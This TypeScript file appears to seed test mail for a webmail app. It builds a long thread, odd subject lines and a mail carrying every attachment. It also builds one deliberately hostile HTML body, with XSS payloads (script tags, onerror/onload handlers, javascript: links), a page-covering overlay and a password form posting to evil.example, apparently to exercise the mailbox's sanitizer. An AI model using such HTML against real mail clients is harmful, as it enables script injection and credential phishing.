import { maxFilesAtOnce } from '../../../contract/values/files/files.ts';
import { emailSubjectLength } from '../../../contract/values/workspace/mailbox.ts';
import { type AttachmentName, attachments } from '../workspace/mailbox-files.ts';
import type { MessageSeed } from '../workspace/mailbox-messages.ts';
import { type Correspondent, correspondents } from '../workspace/mailbox-people.ts';
import { writeMails } from '../workspace/write-mailbox.ts';
import { longText, longThai, longWord, oddLines } from './edge-texts.ts';
import type { Scenario } from './scenario.ts';

/** Samples with difficult mails: a conversation of 100, every attachment type, hostile HTML. */
export const mail: Scenario = {
  hasSamples: true,
  more: (tx, people, now) => writeMails(tx, people, [...conversation, ...oddSubjects, ...heavy], { now }),
};

const toJohn = { to: ['johndoe'], copies: { johndoe: { folder: 'inbox', isRead: false } } } as const;
const everybody = Object.keys(correspondents) as Correspondent[];
const files = Object.keys(attachments) as AttachmentName[];

/** Between the two sample accounts, so that both have it. */
const conversation = Array.from({ length: 100 }, (_, at): MessageSeed => {
  const [from, to] = at % 2 === 0 ? (['janedoe', 'johndoe'] as const) : (['johndoe', 'janedoe'] as const);
  return {
    ...{ from, to: [to], thread: 'a-hundred', hoursAgo: 100 - at, subject: at === 0 ? 'ร้อยฉบับ' : 'Re: ร้อยฉบับ' },
    message: `<p>${at + 1}</p><p>${longText(20 + ((at * 97) % 700))}</p>`,
    // The newest ten are unread.
    copies: { [from]: { folder: 'sent' }, [to]: { folder: 'inbox', ...(at < 90 ? {} : { isRead: false }) } } as MessageSeed['copies'],
  };
});

const oddSubjects = [...oddLines, longThai(emailSubjectLength), ''].map(
  (subject, at): MessageSeed => ({ from: 'krit', ...toJohn, hoursAgo: 0.2 + at / 10, subject, message: `<p dir="auto">${subject}</p>` }),
);

const heavy: MessageSeed[] = [
  {
    from: 'pim',
    ...toJohn,
    to: everybody,
    hoursAgo: 0.1,
    subject: 'To everybody, with all files',
    message: '',
    attachments: files.slice(0, maxFilesAtOnce),
  },
  { from: 'seo', ...toJohn, hoursAgo: 0.15, subject: 'HTML that means no good', message: hostile() },
];

/** Returns HTML as an attacker would send it; the mailbox sanitizes it before storage. */
function hostile(): string {
  const wide = `<table width="4000"><tr>${`<td nowrap>${longWord(40)}</td>`.repeat(30)}</tr></table>`;
  const deep = '<blockquote>'.repeat(40) + longWord(60) + '</blockquote>'.repeat(40);
  const scripts = '<script>document.title = "taken"</script><img src="x" onerror="document.title = \'taken\'"><svg onload="alert(1)">';
  const covers = '<div style="position:fixed;inset:0;background:red;z-index:9999">Click me</div><style>body { display: none }</style>';
  const links = `<a href="javascript:alert(1)">here</a> <a href="https://market.example/${longWord(900)}">${longWord(300)}</a>`;
  return `${scripts}${covers}<p>${links}</p><pre>${longWord(1500)}</pre>${wide}${deep}<form action="https://evil.example"><input name="password"></form>`;
}
